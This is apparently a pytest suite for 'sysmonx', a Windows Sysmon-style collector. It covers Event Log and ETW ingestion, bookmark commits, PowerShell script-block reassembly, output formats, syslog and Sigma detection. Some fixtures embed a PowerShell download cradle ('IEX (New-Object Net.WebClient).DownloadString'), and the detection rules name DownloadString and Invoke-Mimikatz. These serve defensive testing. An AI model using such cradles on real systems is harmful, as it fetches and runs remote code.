"""The Windows pieces on the one loop, against fake wevtapi/ETW APIs: registered sources and
stages, the Windows collector (Event Log + ETW -> stages -> outputs), at-least-once commits after
the outputs took an event, event 220 through the schema, the filter, Sigma and every output
format, and Kernel-Process events as Sysmon 1/5."""

from __future__ import annotations

import io
import json
import threading
import time
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from sysmonx.cli import builtin_sample_path
from sysmonx.config import parse_config
from sysmonx.core.registry import SOURCES, STAGES
from sysmonx.event import Event
from sysmonx.pipeline.ack import AckTracker
from sysmonx.pipeline.windows import WindowsCollector, WindowsOptions
from sysmonx.schema import CURRENT
from sysmonx.sinks import writer_class
from sysmonx.sources.xmlfile import parse_event
from sysmonx.windows.eventlog import ChannelSpec
from sysmonx.windows.fakes import FakeEtwApi, FakeWevtApi, kernel_process_record, split_event_xml
from sysmonx.windows.powershell import POWERSHELL_CHANNEL
from sysmonx.windows.stages import DeviceMap, KernelProcessToSysmon, process_guid
from sysmonx.windows.win32 import FILETIME_EPOCH_OFFSET

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SBID = "ec01d4f1-b1ad-4a78-af6b-ac18c1131c30"


def ps_part(number: int, total: int, text: str, *, sbid: str = SBID,
            time_: str = "2025-04-09T09:20:55.7303939Z") -> str:
    """A 4104 record as the Event Log renders it (shape of real records)."""
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-PowerShell' "
        "Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/><EventID>4104</EventID>"
        "<Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode>"
        f"<Keywords>0x0</Keywords><TimeCreated SystemTime='{time_}'/>"
        "<EventRecordID>1</EventRecordID>"
        "<Correlation ActivityID='{8dda4362-a927-0000-f7f2-dc8d27a9db01}'/>"
        "<Execution ProcessID='6064' ThreadID='10848'/>"
        f"<Channel>{POWERSHELL_CHANNEL}</Channel><Computer>DESKTOP-M3AKJSD</Computer>"
        "<Security UserID='S-1-5-21-3999086100-426973801-4203759309-1002'/></System>"
        f"<EventData><Data Name='MessageNumber'>{number}</Data>"
        f"<Data Name='MessageTotal'>{total}</Data>"
        f"<Data Name='ScriptBlockText'>{escape(text)}</Data>"
        f"<Data Name='ScriptBlockId'>{sbid}</Data><Data Name='Path'></Data>"
        "</EventData></Event>")


def _sample() -> list[str]:
    return split_event_xml(Path(builtin_sample_path()).read_text(encoding="utf-8"))


class ListSink:
    """An events output keeping what it took; ``gate`` (when set) holds each write."""

    name = "list"
    accepts = frozenset({"event"})

    def __init__(self, gate: threading.Event | None = None) -> None:
        self.events: list[Event] = []
        self.gate = gate

    def write(self, item):
        if self.gate is not None:
            self.gate.wait(10)
        self.events.append(item)


def _run(collector: WindowsCollector, until, timeout: float = 20.0) -> None:
    t = threading.Thread(target=collector.run, daemon=True)
    t.start()
    deadline = time.monotonic() + timeout
    while not until() and time.monotonic() < deadline:
        time.sleep(0.02)
    collector.request_stop()
    t.join(timeout)
    assert not t.is_alive()


def _opts(api, **kw) -> WindowsOptions:
    kw.setdefault("channels", [ChannelSpec(SYSMON), ChannelSpec(POWERSHELL_CHANNEL,
                               "*[System[(EventID=4103 or EventID=4104)]]")])
    kw.setdefault("tick_s", 0.1)
    kw.setdefault("eventlog_options", {"wait_ms": 20})
    return WindowsOptions(wevtapi=api, **kw)


def test_sources_and_stages_are_registered():
    assert {"eventlog", "etw-kernel-process", "windows"} <= set(SOURCES.names())
    assert {"powershell-scriptblocks", "kernel-process-sysmon"} <= set(STAGES.names())
    assert not [k for k in SOURCES.broken if "windows" in k]


def test_live_subscription_gives_what_replay_gives(tmp_path):
    """The built-in sample through the built-in config: live (fake wevtapi -> collector) and
    replay (the XML file) write the same Sysmon events, field for field."""
    from sysmonx.cli import builtin_config_path
    from sysmonx.config import load_config
    from sysmonx.pipeline.replay import Replayer, ReplayOptions
    config = load_config(builtin_config_path())
    records = [x for x in _sample() if "Microsoft-Windows-Sysmon" in x]
    api = FakeWevtApi([SYSMON, POWERSHELL_CHANNEL])
    for x in records:
        api.write(SYSMON, x, keep_id=True)
    sink = ListSink()
    col = WindowsCollector(config, [sink], _opts(api, bookmarks=str(tmp_path / "bm.json")))
    replayed = ListSink()
    Replayer(ReplayOptions(config=config), replayed).run([str(builtin_sample_path())])
    expected = [e for e in replayed.events if e.event_id != 1000]
    _run(col, lambda: len(sink.events) >= len(expected))
    got = [(e.event_id, e.record_id, e.data) for e in sink.events]
    assert got == [(e.event_id, e.record_id, e.data) for e in expected]
    assert 0 < len(expected) < len(records)          # the config filtered some out
    bm = json.loads((tmp_path / "bm.json").read_text())["channels"][SYSMON]
    last = max(int(parse_event(x.encode(), ("t", 0)).record_id) for x in records)
    assert bm["record_id"] == last                   # filtered-out events are committed too
    assert col.tracker.committed == len(records) and col.tracker.pending == 0


def test_script_block_event_220_after_its_parts_and_filtered_by_its_tag(tmp_path):
    api = FakeWevtApi([SYSMON, POWERSHELL_CHANNEL])
    text = "A" * 12000 + "IEX (New-Object Net.WebClient).DownloadString" + "B" * 9000
    cut = [text[:10000], text[10000:20000], text[20000:]]
    for i, t in enumerate(cut, 1):
        api.write(POWERSHELL_CHANNEL, ps_part(i, 3, t))
    api.write(POWERSHELL_CHANNEL, ps_part(1, 1, "Get-Date", sbid="11111111-2222-3333-4444-"
                                                               "555555555555"))
    config = parse_config(
        '<Sysmon schemaversion="4.90"><EventFiltering><RuleGroup groupRelation="or">'
        '<PowerShellScriptBlock onmatch="include">'
        '<ScriptBlockText name="download cradle" condition="contains">DownloadString'
        '</ScriptBlockText></PowerShellScriptBlock></RuleGroup></EventFiltering></Sysmon>')
    sink = ListSink()
    col = WindowsCollector(config, [sink], _opts(api))
    _run(col, lambda: len(sink.events) >= 5)
    ids = [e.event_id for e in sink.events]
    assert ids == [4104, 4104, 4104, 220, 4104]       # Get-Date's 220 was filtered out
    block = sink.events[3]
    assert block.data["ScriptBlockText"] == text and block.data["MessageTotal"] == "3"
    assert block.data["RuleName"] == "download cradle"
    assert block.provider == "Microsoft-Windows-Sysmon" and block.task == 220
    assert col.tracker.committed == 4


def test_bookmark_never_passes_an_event_an_output_still_holds(tmp_path):
    """At least once: with the output stuck on the first event, nothing is committed; a restart
    with the same bookmark file delivers every event again."""
    records = [x for x in _sample() if "Microsoft-Windows-Sysmon" in x][:6]
    api = FakeWevtApi([SYSMON])
    for x in records:
        api.write(SYSMON, x)
    bm = tmp_path / "bm.json"
    gate = threading.Event()
    held = ListSink(gate)
    col = WindowsCollector(None, [held], _opts(api, channels=[ChannelSpec(SYSMON)],
                                               bookmarks=str(bm)))
    t = threading.Thread(target=col.run, daemon=True)
    t.start()
    deadline = time.monotonic() + 10
    while col.tracker.pending < 6 and time.monotonic() < deadline:
        time.sleep(0.02)
    time.sleep(0.3)
    assert col.tracker.pending == 6 and col.tracker.committed == 0 and held.events == []
    assert not bm.exists()                             # no position written: nothing taken
    # "crash" now: a second collector on the same bookmark file gets every event again
    again = ListSink()
    col2 = WindowsCollector(None, [again], _opts(api, channels=[ChannelSpec(SYSMON)],
                                                 bookmarks=str(bm)))
    _run(col2, lambda: len(again.events) >= 6)
    assert [e.record_id for e in again.events] == [1, 2, 3, 4, 5, 6]
    assert json.loads(bm.read_text())["channels"][SYSMON]["record_id"] == 6
    gate.set()
    col.request_stop()
    t.join(10)
    assert not t.is_alive() and col.tracker.committed == 6 and len(held.events) == 6


def test_ack_tracker_commits_in_order_only_when_every_output_took_the_event():
    committed = []
    tr = AckTracker(committed.append, outputs=2)
    evs = [Event(1, {}, record_id=i) for i in range(4)]
    for e in evs:
        e.origin = ("eventlog:x", e.record_id)
    tr.begin(evs[0])
    tr.to_outputs(evs[0])
    tr.begin(evs[1])                                   # dropped by a stage
    tr.begin(evs[2])
    tr.to_outputs(evs[2])
    tr.settle()
    assert committed == []                             # evs[0] not taken yet
    tr.taken(evs[2])
    tr.taken(evs[2])
    assert committed == []                             # still behind evs[0]
    tr.taken(evs[0])
    assert committed == []
    tr.taken(evs[0], failed=True)                      # a failing output: counted, not holding
    assert committed == [evs[0], evs[1], evs[2]] and tr.failed_outputs == 1
    assert tr.dropped_by_stages == 1 and tr.pending == 0


T0 = FILETIME_EPOCH_OFFSET + 1_700_000_000 * 10_000_000 + 1234567   # 2023-11-14T22:13:20.1234567Z
START = {"ProcessID": 7020, "ProcessSequenceNumber": 4096, "CreateTime": T0,
         "ParentProcessID": 5132, "ParentProcessSequenceNumber": 2048, "SessionID": 1,
         "Flags": 0, "ProcessTokenElevationType": 3, "ProcessTokenIsElevated": 0,
         "MandatoryLabel": "S-1-16-12288",
         "ImageName": "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
         "ImageChecksum": 0, "TimeDateStamp": 0, "PackageFullName": "",
         "PackageRelativeAppId": ""}
STOP = {"ProcessID": 7020, "ProcessSequenceNumber": 4096, "CreateTime": T0,
        "ExitTime": T0 + 25_000_000, "ExitCode": 0, "TokenElevationType": 3,
        "HandleCount": 75, "CommitCharge": 1, "CommitPeak": 2, "CPUCycleCount": 3,
        "ReadOperationCount": 0, "WriteOperationCount": 0, "ReadTransferKiloBytes": 0,
        "WriteTransferKiloBytes": 0, "HardFaultCount": 0, "ImageName": "cmd.exe"}


def test_kernel_process_as_sysmon_1_and_5_end_to_end():
    etw = FakeEtwApi()
    child = dict(START, ProcessID=7100, ProcessSequenceNumber=4100, ParentProcessID=7020,
                 ImageName="\\Device\\HarddiskVolume3\\Windows\\System32\\whoami.exe",
                 MandatoryLabel="S-1-16-4097")
    for rec in (kernel_process_record(1, 3, START, timestamp=T0),
                kernel_process_record(1, 3, child, timestamp=T0 + 10),
                kernel_process_record(2, 2, STOP, timestamp=T0 + 25_000_000)):
        etw.feed(*rec)
    devices = DeviceMap({"C:": "\\Device\\HarddiskVolume3"}.get)
    sink = ListSink()
    col = WindowsCollector(None, [sink], WindowsOptions(
        eventlog=False, etw=True, etwapi=etw, tick_s=0.1,
        etw_options={"computer": "WS01", "poll": 60},
        kernel_process_options={"machine_key": "5770385F", "devices": devices}))
    _run(col, lambda: len(sink.events) >= 3)
    start, kid, stop = sink.events
    guid = "{5770385f-6553-f100-0000-000000001000}"
    assert guid == process_guid("5770385f", "2023-11-14T22:13:20.1234567Z", 4096, 7020)
    assert (start.event_id, start.provider, start.channel) == \
        (1, "Microsoft-Windows-Sysmon", SYSMON)
    assert list(start.data) == list(CURRENT.events[1].field_names)
    d = start.data
    assert (d["UtcTime"], d["ProcessGuid"], d["ProcessId"]) == \
        ("2023-11-14 22:13:20.123", guid, "7020")
    assert d["Image"] == "C:\\Windows\\System32\\cmd.exe" and d["IntegrityLevel"] == "High"
    assert (d["CommandLine"], d["User"], d["Hashes"]) == ("-", "-", "-")
    assert d["LogonGuid"] == "{00000000-0000-0000-0000-000000000000}" and d["LogonId"] == "0x0"
    assert d["ParentProcessGuid"] == "{00000000-0000-0000-0000-000000000000}"
    assert (d["ParentProcessId"], d["ParentImage"], d["TerminalSessionId"]) == \
        ("5132", "-", "1")
    assert kid.data["ParentProcessGuid"] == guid
    assert kid.data["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert kid.data["IntegrityLevel"] == "-"            # an unknown label is not guessed
    assert stop.event_id == 5 and list(stop.data) == list(CURRENT.events[5].field_names)
    assert stop.data["ProcessGuid"] == guid and stop.data["Image"] == d["Image"]
    assert stop.data["UtcTime"] == "2023-11-14 22:13:22.623"


def test_stop_of_a_process_started_before_sysmonx_has_no_guessed_image():
    stage = KernelProcessToSysmon(machine_key="00000000", devices=DeviceMap(lambda x: None))
    out: list = []
    rec, keep = kernel_process_record(2, 2, STOP, timestamp=T0)
    from sysmonx.windows.etw_process import event_from_record
    stage.process(event_from_record(rec, "WS01"), out.append)
    assert out[0].data["Image"] == "-" and out[0].data["ProcessGuid"].endswith("000000001000}")
    assert DeviceMap(lambda x: None).to_dos("\\Device\\Mup\\srv\\a.exe") == \
        "\\Device\\Mup\\srv\\a.exe"


@pytest.mark.parametrize("fmt", ["xml", "linux-xml", "jsonl", "csv"])
def test_every_output_format_writes_event_220(fmt):
    from sysmonx.windows.powershell import ScriptBlockAssembler
    ev = ScriptBlockAssembler().add(parse_event(ps_part(1, 1, "Get-Process").encode(),
                                                ("t", 1)))[0]
    buf = io.BytesIO()
    w = writer_class(fmt).open(buf)
    w.write(ev)
    w.flush()
    text = buf.getvalue().decode()
    assert "220" in text and "Get-Process" in text and SBID in text


def test_schema_print_config_tag_and_sigma_see_event_220():
    from sysmonx.detection.logsource import resolve_logsource
    from sysmonx.schema.printer import render_schema_output
    text, code = render_schema_output(None)
    assert code == 0 and 'value="220"' in text and 'rulename="PowerShellScriptBlock"' in text
    assert CURRENT.tags["PowerShellScriptBlock"] == (220,)
    target = resolve_logsource("windows", "sysmonx_ps_script_block", None)
    assert ("win", 220) in target.groups


def test_sysmon_never_gets_the_tags_of_sysmonx_events():
    from sysmonx.windows.sensorconfig import derive_sensor_config
    user = parse_config(
        '<Sysmon schemaversion="4.90"><EventFiltering><RuleGroup groupRelation="or">'
        '<PowerShellScriptBlock onmatch="include"><ScriptBlockText condition="regex">'
        'Invoke-(Mimikatz|Expression)</ScriptBlockText></PowerShellScriptBlock>'
        '<ProcessCreate onmatch="include"><Image condition="end with">\\cmd.exe</Image>'
        '</ProcessCreate></RuleGroup></EventFiltering></Sysmon>', "user.xml")
    sensor = derive_sensor_config(user)
    assert "PowerShellScriptBlock" not in sensor.xml and "PowerShellScriptBlock" not in sensor.plan
    assert "ScriptBlockText" not in sensor.xml and sensor.plan["ProcessCreate"].mode == "rules"
    assert "BpfEvent" not in derive_sensor_config(None).xml


@pytest.mark.parametrize("scheme", ["udp", "tcp"])
def test_syslog_to_a_remote_receiver(scheme, tmp_path, monkeypatch):
    """Windows has no /dev/log: --syslog udp:// or tcp:// goes to the network syslog outputs
    (RFC 5424; octet counting over TCP; spooled), loopback receivers here."""
    import socket
    from sysmonx.sinks.netsyslog import TcpSyslogSink, UdpSyslogSink
    from sysmonx.sinks.syslog import SyslogWriter
    monkeypatch.setenv("SYSMONX_SPOOL_DIR", str(tmp_path / "spool"))
    kind = socket.SOCK_DGRAM if scheme == "udp" else socket.SOCK_STREAM
    srv = socket.socket(socket.AF_INET, kind)
    srv.bind(("127.0.0.1", 0))
    srv.settimeout(5)
    if scheme == "tcp":
        srv.listen(1)
    port = srv.getsockname()[1]
    w = SyslogWriter.open(f"{scheme}://127.0.0.1:{port}", require=False)
    assert isinstance(w, UdpSyslogSink if scheme == "udp" else TcpSyslogSink)
    assert w.label == f"syslog {scheme}://127.0.0.1:{port}"
    ev = parse_event(_sample()[0].encode(), ("t", 1))
    w.write(ev)
    if scheme == "tcp":
        conn, _ = srv.accept()
        conn.settimeout(5)
        data = conn.recv(65536)
        length, _, data = data.partition(b" ")  # octet counting
        assert int(length) == len(data)
    else:
        data = srv.recv(65536)
    w.close()
    if scheme == "tcp":
        conn.close()
    srv.close()
    assert data.startswith(b"<14>1 ") and b" sysmon - " in data and data.endswith(b"</Event>")
    with pytest.raises(OSError, match="expected udp://HOST:PORT"):
        SyslogWriter.open("udp://:514")  # no host (no port means syslog's 514)


def test_reload_swaps_the_filter_between_two_events(tmp_path):
    """-c signals the service (control 128): the next events are decided by the new file."""
    from sysmonx.config import load_config
    cfg = tmp_path / "c.xml"
    rule = ('<Sysmon schemaversion="4.90"><EventFiltering><RuleGroup groupRelation="or">'
            '<PowerShellScriptBlock onmatch="include"><ScriptBlockText condition="contains">'
            '{}</ScriptBlockText></PowerShellScriptBlock></RuleGroup></EventFiltering></Sysmon>')
    cfg.write_text(rule.format("alpha"))
    api = FakeWevtApi([POWERSHELL_CHANNEL])
    sink = ListSink()
    col = WindowsCollector(load_config(cfg), [sink], _opts(
        api, channels=[ChannelSpec(POWERSHELL_CHANNEL)]), reloader=lambda: load_config(cfg))
    t = threading.Thread(target=col.run, daemon=True)
    t.start()
    api.write(POWERSHELL_CHANNEL, ps_part(1, 1, "alpha beta", sbid="1" * 8 + "-1111-1111-1111-"
                                                                   + "1" * 12))
    deadline = time.monotonic() + 10
    while len(sink.events) < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    cfg.write_text(rule.format("beta"))
    from sysmonx.filtering.stage import FilterStage
    flt = next(s for s in col.stages if isinstance(s, FilterStage))
    old = flt.config
    col.request_reload()
    while flt.config is old and time.monotonic() < deadline:   # applied between two items
        time.sleep(0.02)
    # records written after the reload (an event that happened before it is decided by the
    # configuration in force then: tests/test_filter_reload.py)
    now = time.strftime("%Y-%m-%dT%H:%M:%S.0000000Z", time.gmtime(time.time() + 1))
    api.write(POWERSHELL_CHANNEL, ps_part(1, 1, "alpha only", sbid="2" * 8 + "-2222-2222-2222-"
                                          + "2" * 12, time_=now))
    api.write(POWERSHELL_CHANNEL, ps_part(1, 1, "beta only", sbid="3" * 8 + "-3333-3333-3333-"
                                          + "3" * 12, time_=now))
    while len(sink.events) < 5 and time.monotonic() < deadline:
        time.sleep(0.02)
    col.request_stop()
    t.join(10)
    blocks = [e.data["ScriptBlockText"] for e in sink.events if e.event_id == 220]
    assert blocks == ["alpha beta", "beta only"]


def test_event_log_and_etw_merged_commits_go_back_to_the_event_log(tmp_path):
    api = FakeWevtApi([SYSMON])
    rec = next(x for x in _sample() if "<EventID>1</EventID>" in x)
    api.write(SYSMON, rec)
    etw = FakeEtwApi()
    etw.feed(*kernel_process_record(1, 3, START, timestamp=T0))
    sink = ListSink()
    col = WindowsCollector(None, [sink], _opts(
        api, channels=[ChannelSpec(SYSMON)], etw=True, etwapi=etw,
        bookmarks=str(tmp_path / "bm.json"), etw_options={"computer": "WS01", "poll": 60},
        kernel_process_options={"machine_key": "00000000",
                                "devices": DeviceMap(lambda x: None)}))
    from sysmonx.windows.sources import MergedSource
    assert isinstance(col.source, MergedSource)
    _run(col, lambda: len(sink.events) >= 2 and col.tracker.committed >= 1)
    assert sorted((e.event_id, e.record_id or 0) for e in sink.events) == [(1, 0), (1, 1)]
    assert col.tracker.committed == 1
    assert json.loads((tmp_path / "bm.json").read_text())["channels"][SYSMON]["record_id"] == 1
    assert "SysmonX-KernelProcess" not in etw.active        # the ETW session was stopped


def test_a_sigma_rule_on_event_220_sees_a_pattern_cut_across_two_parts(tmp_path):
    from sysmonx.detection import DetectionStage
    rule = tmp_path / "cradle.yml"
    rule.write_text(
        "title: Download cradle in one script block\n"
        "id: 5f0c7a52-3c7e-4f6a-9d41-2a7a1d3b0f01\n"
        "status: test\n"
        "logsource:\n  product: windows\n  category: sysmonx_ps_script_block\n"
        "detection:\n  sel:\n    ScriptBlockText|contains: 'Net.WebClient).DownloadString'\n"
        "  condition: sel\nlevel: high\n")
    stage = DetectionStage.from_paths([str(rule)])
    assert not [i for i in stage.issues if i.rejected]
    api = FakeWevtApi([POWERSHELL_CHANNEL])
    text = "A" * 9990 + "IEX (New-Object Net.WebClient).DownloadString('http://x')" + "B" * 9990
    api.write(POWERSHELL_CHANNEL, ps_part(1, 2, text[:10000]))     # the cut is inside the
    api.write(POWERSHELL_CHANNEL, ps_part(2, 2, text[10000:]))     # pattern
    sink = ListSink()
    col = WindowsCollector(None, [sink], _opts(api, channels=[ChannelSpec(POWERSHELL_CHANNEL)]),
                           detection=stage)
    _run(col, lambda: any(e.event_id == 1000 for e in sink.events))
    ids = [e.event_id for e in sink.events]
    assert ids == [4104, 4104, 220, 1000]
